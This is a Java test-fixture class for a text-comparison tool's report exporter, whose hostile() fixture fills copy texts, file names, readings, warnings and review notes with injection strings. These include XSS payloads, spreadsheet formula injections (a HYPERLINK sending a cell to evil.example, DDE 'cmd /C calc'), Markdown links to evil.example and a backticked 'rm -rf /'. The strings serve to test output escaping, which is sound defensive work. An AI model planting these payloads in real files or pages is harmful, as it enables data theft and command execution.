package org.wirecheck.report;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.wirecheck.classify.Kind;
import org.wirecheck.classify.Severity;
import org.wirecheck.compare.Comparer;
import org.wirecheck.compare.Comparison;
import org.wirecheck.compare.Copy;
import org.wirecheck.compare.Discrepancy;
import org.wirecheck.compare.Location;
import org.wirecheck.compare.Options;
import org.wirecheck.compare.Reading;
import org.wirecheck.ingest.LoadException;
import org.wirecheck.ingest.Loader;
import org.wirecheck.text.TextRange;
import org.wirecheck.text.Witness;

/** Comparisons for the report tests: the samples, the small fixture with sentences, and one full of hostile text. */
public final class ReportFixtures {

    /** The date every expected report carries. */
    public static final Clock CLOCK = Clock.fixed(Instant.parse("2026-01-30T09:15:00Z"), ZoneOffset.UTC);

    public static final ExportOptions OPTIONS = ExportOptions.defaults().withClock(CLOCK);

    /** Hostile strings, each placed in the copies, readings, names or notes of {@link #hostile()}. */
    public static final String SCRIPT = "<script>alert(1)</script>";
    public static final String BREAKOUT = "\"><img src=x onerror=alert(1)>";
    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    public static final String PLUS = "+cmd|' /C calc'!A0";
    public static final String MINUS = "-2+3";
    public static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    public static final String TAB = "\t=1+2";
    public static final String CR = "\r=1+3";
    public static final String PIPES = "| a | b |";
    public static final String BACKTICKS = "`rm -rf /`";
    public static final String LINK = "[click](http://evil.example) ![x](http://evil.example/x.png)";
    public static final String HEADING = "# Not a heading";
    public static final String QUOTES = "He said \"yes\",\nthen \"no\"";

    private ReportFixtures() {
    }

    /** The five sample copies compared as the command line compares them (paths "samples/..."). */
    public static Comparison samples() {
        List<Witness> witnesses = new ArrayList<>();
        try (Stream<Path> files = Files.list(Path.of("samples"))) {
            for (Path p : files.filter(f -> f.toString().endsWith(".txt")).sorted().toList()) {
                witnesses.add(Loader.load(Path.of("samples", p.getFileName().toString())));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (LoadException e) {
            throw new IllegalStateException(e);
        }
        return Comparer.compare(witnesses, Options.defaults());
    }

    /** {@link Fixtures#threeCopies()} with each copy's text as one sentence. */
    public static Comparison sentenced() {
        Comparison c = Fixtures.threeCopies();
        List<Copy> copies = new ArrayList<>();
        for (Copy copy : c.copies()) {
            copies.add(new Copy(copy.id(), copy.witness(), copy.words(), copy.similarity(), copy.base(),
                    copy.family(), List.of(new TextRange(0, copy.witness().text().length()))));
        }
        return new Comparison(copies, c.baseId(), c.discrepancies(), c.warnings(), c.sameStory());
    }

    /** A review by discrepancy id. */
    public static Review review(Map<String, ReviewEntry> entries) {
        return d -> Optional.ofNullable(entries.get(d.id()));
    }

    /** Builds a copy's text sentence by sentence, remembering where each reading stands. */
    private static final class Text {
        final StringBuilder sb = new StringBuilder();
        final List<TextRange> sentences = new ArrayList<>();
        final Map<String, Location> at = new LinkedHashMap<>();
        final String id;
        int sentenceStart;

        Text(String id) {
            this.id = id;
        }

        Text plain(String s) {
            sb.append(s);
            return this;
        }

        Text reading(String key, String s) {
            at.put(key, new Location(id, sb.length(), sb.length() + s.length()));
            sb.append(s);
            return this;
        }

        Text end() {
            sentences.add(new TextRange(sentenceStart, sb.length()));
            sb.append('\n');
            sentenceStart = sb.length();
            return this;
        }
    }

    /**
     * Two copies whose text, names, readings, summaries, warnings and review notes are made of HTML, Markdown and
     * spreadsheet-formula attacks.
     */
    public static Comparison hostile() {
        Text a = new Text("A");
        Text b = new Text("B");
        a.plain(HEADING + " " + SCRIPT).end();
        b.plain(HEADING + " " + SCRIPT).end();
        a.plain("The minister said ").reading("D1", SCRIPT).plain(" today.").end();
        b.plain("The minister said ").reading("D1", BREAKOUT).plain(" today.").end();
        a.plain("Formula ").reading("D2", FORMULA).plain(" here.").end();
        b.plain("Formula ").reading("D2", PLUS).plain(" here.").end();
        a.plain("Minus ").reading("D3", MINUS).plain(" and ").reading("D4", AT).plain(" there.").end();
        b.plain("Minus ").reading("D3", TAB).plain(" and ").reading("D4", CR).plain(" there.").end();
        a.plain("Table ").reading("D5", PIPES).plain(" with ").reading("D6", BACKTICKS).plain(" code.").end();
        b.plain("Table ").reading("D5", LINK).plain(" with ").reading("D6", HEADING).plain(" code.").end();
        a.plain("Quoted ").reading("D7", QUOTES).plain(" end.").end();
        b.plain("Quoted").reading("D7", "").plain(" end.").end();

        String nameA = "=evil" + SCRIPT + ".txt";
        String nameB = "b|" + BREAKOUT + ".md";
        Copy ca = new Copy("A", new Witness(nameA, "/tmp/" + nameA, a.sb.toString()), 30, 1.0, true, 1,
                a.sentences);
        Copy cb = new Copy("B", new Witness(nameB, "/tmp/" + nameB, b.sb.toString()), 30, 0.5, false, 2,
                b.sentences);

        List<Discrepancy> ds = new ArrayList<>();
        String[][] readings = {
            {"D1", SCRIPT, BREAKOUT},
            {"D2", FORMULA, PLUS},
            {"D3", MINUS, TAB},
            {"D4", AT, CR},
            {"D5", PIPES, LINK},
            {"D6", BACKTICKS, HEADING},
            {"D7", QUOTES, ""},
        };
        for (String[] r : readings) {
            String id = r[0];
            ds.add(new Discrepancy(id, Kind.QUOTE, Severity.HIGH, r[1] + " / " + r[2], "why " + SCRIPT + " " + PIPES,
                    r[1], List.of(new Reading(r[1], List.of(a.at.get(id))), new Reading(r[2], List.of(b.at.get(id))))));
        }
        return new Comparison(List.of(ca, cb), "A", ds, List.of("warning " + SCRIPT + " " + FORMULA), true);
    }

    /** A review of {@link #hostile()} whose verdict and note are attacks too. */
    public static Review hostileReview() {
        return review(Map.of("D1", new ReviewEntry("=confirmed " + SCRIPT, "note " + BREAKOUT + "\n" + PIPES + " "
                + FORMULA)));
    }
}
